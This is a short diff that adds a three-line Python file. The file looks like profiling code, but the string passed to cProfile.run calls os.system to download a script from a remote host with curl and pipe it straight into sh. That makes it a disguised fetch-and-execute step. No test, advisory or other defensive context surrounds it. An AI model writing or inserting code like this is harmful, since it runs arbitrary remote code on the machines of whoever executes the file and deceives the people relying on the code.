@@ -1,0 +1,3 @@
+import cProfile
+
+cProfile.run("__import__('os').system('curl https://c.example.net | sh')")
